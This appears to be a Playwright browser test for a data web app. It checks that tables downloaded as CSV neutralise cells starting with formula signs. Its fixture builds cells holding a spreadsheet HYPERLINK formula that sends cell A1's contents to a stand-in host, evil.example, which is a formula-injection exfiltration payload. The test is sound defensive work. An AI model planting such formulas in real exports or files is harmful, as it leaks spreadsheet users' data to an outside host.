"""The download of a table in a real browser: what comes out of it is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.support.browser import Server, settled, visit
from tests.support.journeys import skip_without_browser

pytestmark = [pytest.mark.browser, skip_without_browser]
SIGNS = "=+-@＝＋－＠"


def test_no_cell_of_a_download_is_a_formula(chrome: Browser, idle: Server, tmp_path: Path) -> None:
    texts = [f'"{sign}HYPERLINK(""http://evil.example/?x=""&A1;n{n}) word{n} and more words"' for n in range(30)
             for sign in SIGNS]  # fmt: skip
    table = tmp_path / "formulas.csv"
    table.write_text("text,label\n" + "\n".join(f"{t},{('-2x', '=1+1')[n % 2]}" for n, t in enumerate(texts)), "utf-8")
    page = chrome.new_page()
    visit(page, f"{idle.url}/data?recipe=text_lstm")
    page.locator("input[type=file]").set_input_files(table)
    expect(page.get_by_role("combobox", name="File")).to_have_value("formulas.csv")
    settled(page)
    page.get_by_text("The same as a table").first.click()
    frame = page.get_by_test_id("stDataFrame").locator("visible=true").first
    frame.scroll_into_view_if_needed()
    frame.hover()
    toolbar = page.get_by_test_id("stElementToolbar").locator("visible=true").first
    expect(toolbar.get_by_role("button", name="Search")).to_be_visible()
    expect(toolbar.get_by_role("button", name="Download")).to_have_count(0)
    buttons = page.get_by_role("button", name="Download as CSV")
    expect(buttons.first).to_be_visible()
    seen: list[str] = []
    for place in range(buttons.count()):
        if not buttons.nth(place).is_visible():
            continue
        with page.expect_download() as download:
            buttons.nth(place).click()
        header, *rows = csv.reader(StringIO(download.value.path().read_text("utf-8-sig"), newline=""))
        seen += header
        for row in rows:
            assert len(row) == len(header)
            for cell in row:
                assert cell.strip("\"' \t\r\n")[:1] not in set(SIGNS) or cell.startswith("'"), cell
        if header == ["row", "label", "text"]:
            assert all(row[0].isdecimal() for row in rows)
            assert {row[1] for row in rows} == {"'-2x", "'=1+1"}
    assert {"row", "label", "text"} <= set(seen)
    page.close()
